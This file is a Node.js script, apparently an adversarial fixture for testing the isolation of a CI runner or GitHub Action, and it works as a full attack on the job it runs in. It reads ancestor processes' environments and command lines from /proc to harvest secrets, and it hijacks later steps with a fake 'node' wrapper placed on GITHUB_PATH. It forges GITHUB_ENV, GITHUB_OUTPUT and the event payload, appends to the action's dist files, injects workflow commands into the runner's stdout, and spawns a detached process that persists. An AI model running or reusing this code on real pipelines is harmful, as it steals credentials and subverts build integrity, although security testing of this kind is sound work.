// A worker's build script that attacks the job it runs in, with what a change may do there: everything as the runner's user.
// It keeps what it saw in the folder that it is given, and ends by itself once the runner is gone.
import { spawn } from "node:child_process";
import {
  appendFileSync,
  chmodSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  writeFileSync,
} from "node:fs";
import { join } from "node:path";

const [, , loot] = process.argv;
const here = import.meta.dirname;
mkdirSync(loot, { recursive: true });
const attempt = (name, body) => {
  try {
    body();
    writeFileSync(join(loot, name), "done\n");
  } catch (error) {
    writeFileSync(join(loot, name), `${String(error)}\n`);
  }
};

// Its own environment is clean, so it looks into that of its ancestors, up to the runner.
const proc = (pid, file) => readFileSync(`/proc/${pid}/${file}`, "utf8");
const parentOf = (pid) => Number(/^\d+ \(.*\) \S (\d+)/s.exec(proc(pid, "stat"))[1]);
const nameOf = (pid) => proc(pid, "comm").trim();
const ancestors = [];
let runner = process.ppid;
while (runner > 1 && nameOf(runner) !== "act") {
  ancestors.push(runner);
  runner = parentOf(runner);
}
const environments = ancestors.map((pid) => proc(pid, "environ").split("\0"));
writeFileSync(
  join(loot, "own.env"),
  Object.entries(process.env)
    .map((one) => one.join("="))
    .join("\n"),
);
writeFileSync(join(loot, "ancestors.env"), environments.flat().join("\n"));
writeFileSync(
  join(loot, "ancestors.argv"),
  ancestors.map((pid) => proc(pid, "cmdline")).join("\n"),
);
const env = Object.fromEntries(
  environments
    .flat()
    .map((one) => [one.slice(0, one.indexOf("=")), one.slice(one.indexOf("=") + 1)]),
);

// Whatever node a later step of the job starts, it is this one first.
const bin = join(loot, "bin");
const later = `#!/bin/bash
env >> ${join(loot, "later.env")}
${process.execPath} ${join(here, "forge.mjs")} ${env.RUNNER_TEMP}
exec ${process.execPath} "$@"
`;
attempt("path", () => {
  mkdirSync(bin, { recursive: true });
  writeFileSync(join(bin, "node"), later);
  chmodSync(join(bin, "node"), 0o755);
  appendFileSync(env.GITHUB_PATH, `${bin}\n`);
});
attempt("env", () =>
  appendFileSync(env.GITHUB_ENV, "INPUT_REPORT=/forged\nCLOUD_TASKS_EMULATOR=http://127.0.0.1:9\n"),
);
attempt("output", () => appendFileSync(env.GITHUB_OUTPUT, "status=passed\nartifact-id=1\n"));
attempt("event", () => {
  const event = JSON.parse(readFileSync(env.GITHUB_EVENT_PATH, "utf8"));
  event.number = 8;
  event.pull_request.number = 8;
  event.pull_request.head.sha = "f".repeat(40);
  writeFileSync(env.GITHUB_EVENT_PATH, JSON.stringify(event));
});
attempt("dist", () => {
  const dist = join(env.GITHUB_ACTION_PATH, "dist/action");
  for (const file of readdirSync(dist, { recursive: true })) {
    if (file.endsWith(".js")) appendFileSync(join(dist, file), "\n// forged\n");
  }
});

// Commands, by its own output and by that of the step, past what the pipeline makes of it.
const commands =
  "::error title=FORGED::forged\n::set-output name=status::passed\n::add-path::/forged\n";
process.stdout.write(commands);
attempt("stdout", () => writeFileSync(`/proc/${ancestors.at(-1)}/fd/1`, commands));

const stays = spawn(process.execPath, [join(here, "forge.mjs"), env.RUNNER_TEMP, String(runner)], {
  detached: true,
  stdio: "ignore",
});
stays.unref();
